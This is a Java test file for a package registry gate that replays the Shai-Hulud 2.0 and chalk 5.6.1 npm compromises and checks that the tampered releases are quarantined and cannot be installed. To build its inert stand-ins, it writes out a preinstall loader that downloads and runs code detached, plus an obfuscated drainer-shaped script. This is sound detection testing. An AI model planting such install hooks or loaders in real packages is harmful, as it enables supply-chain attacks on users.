package dev.portcullis.registry.npm;

import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.identity.Permission;
import dev.portcullis.identity.Role;
import dev.portcullis.testing.CliRunner;
import dev.portcullis.testing.Lightning;
import dev.portcullis.testing.NpmClient;
import dev.portcullis.testing.NpmPackages;
import dev.portcullis.testing.Processes;
import dev.portcullis.testing.RawHttp;
import dev.portcullis.testing.TestServer;
import java.math.BigInteger;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Two npm incidents replayed on the real tarball of the release before them (testdata/npm-replays),
 * published with the real npm CLI the way the attackers published: the clean version goes through
 * the gate and is approved; the compromised one — the same tarball edited as a worm edits it — is
 * quarantined at upload, never installable, its reasons naming what was found. The stand-in
 * payloads are inert and never run.
 */
class NpmIncidentReplayTest {

    @TempDir
    Path dir;

    private static Path replay(String name) throws URISyntaxException {
        return Path.of(NpmIncidentReplayTest.class
                .getResource("/testdata/npm-replays/" + name)
                .toURI());
    }

    /** Shai-Hulud 2.0 (November 2025) on @ctrl/tinycolor (hit by the first wave): preinstall, Bun loader, 10 MB payload. */
    @Test
    void shaiHuludsPreinstallLoaderIsQuarantined() throws Exception {
        try (TestServer server = TestServer.start("sqlite", dir.resolve("data"))) {
            String token = server.token("maintainer", Role.MAINTAINER, null, Permission.UPLOAD);
            NpmClient publisher = new NpmClient(dir.resolve("maintainer"), server.url(), token);
            Path clean = replay("ctrl-tinycolor-4.1.0.tgz");
            Processes.Result first = publisher.run(dir, "publish", clean.toString(), "--ignore-scripts");
            assertThat(first.exitCode()).as(first.output()).isZero();
            assertThat(server.approve("npm:@ctrl%2Ftinycolor", "4.1.0").status())
                    .isEqualTo(200);

            String loader = """
                    #!/usr/bin/env node
                    const { execSync, spawn } = require('child_process');
                    const os = require('os');
                    const path = require('path');
                    function bun() {
                      try { return execSync('command -v bun').toString().trim(); } catch (e) { /* not installed */ }
                      const url = 'https://github.com/oven-sh/bun/releases/download/bun-v1.3.13/bun-' + os.platform() + '-x64.zip';
                      execSync('curl -fsSL ' + url + ' -o /tmp/b.zip && unzip -o /tmp/b.zip -d ' + os.homedir() + '/.bun');
                      return path.join(os.homedir(), '.bun', 'bun');
                    }
                    spawn(bun(), [path.join(__dirname, 'bun_environment.js')], { detached: true, stdio: 'ignore' }).unref();
                    """;
            Path compromised = Files.write(
                    dir.resolve("tinycolor-4.1.1.tgz"),
                    NpmPackages.repack(
                            clean,
                            manifest -> {
                                manifest.put("version", "4.1.1");
                                ((com.fasterxml.jackson.databind.node.ObjectNode) manifest.path("scripts"))
                                        .put("preinstall", "node setup_bun.js");
                            },
                            Map.of(
                                    "setup_bun.js", loader.getBytes(StandardCharsets.UTF_8),
                                    "bun_environment.js",
                                            Lightning.obfuscatedScript(10_000_000)
                                                    .getBytes(StandardCharsets.UTF_8))));
            Processes.Result worm = publisher.run(dir, "publish", compromised.toString(), "--ignore-scripts");
            assertThat(worm.exitCode()).as(worm.output()).isZero(); // staged: the worm learns nothing

            String release = release(server, "npm:@ctrl%2Ftinycolor", "4.1.1");
            assertThat(release)
                    .contains("\"state\":\"quarantined\"")
                    .contains("reached the quarantine threshold")
                    .contains("inspect/install-script")
                    .contains("adds the install script preinstall: node setup_bun.js")
                    .contains("inspect/download-execute")
                    .contains("inspect/obfuscation")
                    .contains("inspect/diff")
                    .contains("most of it one new file: package/bun_environment.js");
            assertNotInstallable(server, "@ctrl/tinycolor", "4.1.1", "4.1.0");
        }
    }

    /** chalk 5.6.1 (September 2025): a drainer appended to the main file; no install script, no new dependency. */
    @Test
    void chalksAppendedWalletDrainerIsQuarantined() throws Exception {
        try (TestServer server = TestServer.start("sqlite", dir.resolve("data"))) {
            String token = server.token("maintainer", Role.MAINTAINER, null, Permission.UPLOAD);
            NpmClient publisher = new NpmClient(dir.resolve("maintainer"), server.url(), token);
            Path clean = replay("chalk-5.6.0.tgz");
            Processes.Result first = publisher.run(dir, "publish", clean.toString(), "--ignore-scripts");
            assertThat(first.exitCode()).as(first.output()).isZero();
            assertThat(server.approve("npm:chalk", "5.6.0").status()).isEqualTo(200);

            byte[] index;
            try (var in = new org.apache.commons.compress.archivers.tar.TarArchiveInputStream(
                    new org.apache.commons.compress.compressors.gzip.GzipCompressorInputStream(
                            Files.newInputStream(clean)))) {
                byte[] found = null;
                for (var e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
                    if (e.getName().equals("package/source/index.js")) {
                        found = in.readAllBytes();
                    }
                }
                index = found;
            }
            assertThat(index).isNotNull();
            Path compromised = Files.write(
                    dir.resolve("chalk-5.6.1.tgz"),
                    NpmPackages.repack(
                            clean,
                            manifest -> manifest.put("version", "5.6.1"),
                            Map.of(
                                    "source/index.js",
                                    (new String(index, StandardCharsets.UTF_8) + drainer())
                                            .getBytes(StandardCharsets.UTF_8))));
            Processes.Result phished = publisher.run(dir, "publish", compromised.toString(), "--ignore-scripts");
            assertThat(phished.exitCode()).as(phished.output()).isZero();

            String release = release(server, "npm:chalk", "5.6.1");
            assertThat(release)
                    .contains("\"state\":\"quarantined\"")
                    .contains("inspect/wallet-drainer")
                    .contains("carries 24 cryptocurrency addresses")
                    .contains("inspect/obfuscation");
            assertNotInstallable(server, "chalk", "5.6.1", "5.6.0");

            // What the approver sees: the one changed file and the appended code.
            CliRunner.Output view = CliRunner.run(
                    "release",
                    "inspect",
                    "npm:chalk",
                    "5.6.1",
                    "--diff",
                    "--server",
                    server.url(),
                    "--token",
                    server.adminToken());
            assertThat(view.out())
                    .contains("Changes since chalk-5.6.0.tgz")
                    .contains("~ package/source/index.js")
                    .contains("+;var _0x");
        }
    }

    /** A stolen token publishing everything it can (Shai-Hulud's worm step): from the twenty-first package on, the gate says so. */
    @Test
    void aTokenPublishingManyPackagesInAnHourIsHigh() throws Exception {
        try (TestServer server = TestServer.start("sqlite", dir.resolve("data"))) {
            String token = server.token("maintainer", Role.MAINTAINER, null, Permission.UPLOAD);
            for (int i = 0; i <= SPREAD_HIGH; i++) {
                String name = "worm-target-" + i;
                byte[] tarball = NpmPackages.tarball(name, "1.0.1", "'ok'");
                RawHttp.Response published = RawHttp.send(
                        server.url(),
                        "PUT",
                        "/npm/" + name,
                        Map.of("Authorization", "Bearer " + token, "Content-Type", "application/json"),
                        NpmPackages.publishBody(NpmPackages.manifest(name, "1.0.1"), tarball, "latest"));
                assertThat(published.status()).as(published.body()).isBetween(200, 201);
            }
            assertThat(release(server, "npm:worm-target-3", "1.0.1")).doesNotContain("spread");
            assertThat(release(server, "npm:worm-target-" + SPREAD_HIGH, "1.0.1"))
                    .contains("spread")
                    .contains("uploaded to " + SPREAD_HIGH + " other projects within the last 60 minutes");
        }
    }

    private static final int SPREAD_HIGH = 20;

    /**
     * The drainer's shape, inert: a javascript-obfuscator string table holding its wallet addresses
     * (made up, valid in form), and fetch and XMLHttpRequest replaced to swap the addresses that pass.
     */
    private static String drainer() {
        Random random = new Random(20250908);
        StringBuilder js = new StringBuilder("\n;var _0x4f2a=[");
        for (int i = 0; i < 20; i++) {
            js.append("'0x")
                    .append(String.format(Locale.ROOT, "%040x", new BigInteger(160, random)))
                    .append("',");
        }
        String base58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
        for (int i = 0; i < 4; i++) {
            StringBuilder address = new StringBuilder("1");
            for (int c = 0; c < 33; c++) {
                address.append(base58.charAt(random.nextInt(base58.length())));
            }
            js.append('\'').append(address).append("',");
        }
        js.append("'fetch','XMLHttpRequest','prototype','open','send','ethereum','request'];");
        for (int i = 0; i < 30; i++) {
            js.append(String.format(
                    Locale.ROOT,
                    "function _0x%04x(_0x%04x,_0x%04x){return _0x4f2a[_0x%04x%%0x18]||_0x%04x;}",
                    random.nextInt(0x10000),
                    i,
                    i + 1,
                    i,
                    i + 1));
        }
        js.append(
                "if(typeof window!=='undefined'){var _0x1b2c=window['fetch'];window['fetch']=async function(..._0x3d4e)"
                        + "{var _0x5f6a=await _0x1b2c(..._0x3d4e);return _0x5f6a;};var _0x7b8c=XMLHttpRequest['prototype']['send'];"
                        + "XMLHttpRequest['prototype']['send']=function(_0x9d0e){return _0x7b8c['call'](this,_0x9d0e);};}\n");
        return js.toString();
    }

    private static String release(TestServer server, String project, String version) {
        RawHttp.Response response = RawHttp.send(
                server.url(),
                "GET",
                "/api/v1/projects/" + project + "/releases/" + version,
                Map.of("Authorization", "Bearer " + server.adminToken()),
                null);
        assertThat(response.status()).as(response.body()).isEqualTo(200);
        return response.body();
    }

    /** Installers see the clean version only; asking for the compromised one is npm's "no such version". */
    private void assertNotInstallable(TestServer server, String name, String bad, String good) throws Exception {
        NpmClient installer = new NpmClient(dir.resolve("installer"), server.url(), null);
        Path app = Files.createDirectories(dir.resolve("app"));
        Processes.Result view = installer.run(app, "view", name, "versions", "--json");
        assertThat(view.output()).contains(good).doesNotContain(bad);
        Processes.Result install = installer.run(app, "install", name + "@" + bad, "--ignore-scripts");
        assertThat(install.exitCode()).isNotZero();
        assertThat(install.output()).contains("ETARGET");
    }
}
